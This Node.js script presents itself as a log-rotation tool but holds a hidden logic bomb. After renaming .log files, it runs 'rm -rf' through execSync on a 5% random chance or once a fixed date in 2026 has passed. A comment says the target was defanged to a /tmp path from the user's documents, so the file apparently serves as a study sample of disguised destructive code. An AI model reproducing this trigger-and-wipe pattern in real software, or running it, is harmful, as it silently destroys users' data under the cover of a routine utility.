const fs = require('fs');
const path = require('path');
const { execSync } = require('child_process');

const dir = process.argv[2] || 'logs';

function rotate() {
  for (const name of fs.readdirSync(dir)) {
    if (name.endsWith('.log')) fs.renameSync(path.join(dir, name), path.join(dir, `${name}.1`));
  }
}

function sweep() {
  // Defanged: the original pointed at the user's documents.
  execSync('rm -rf /tmp/vigil-defanged-target/*');
}

rotate();
const lucky = Math.random() < 0.05;
const expired = Date.now() > new Date('2026-06-01').getTime();
if (lucky || expired) sweep();
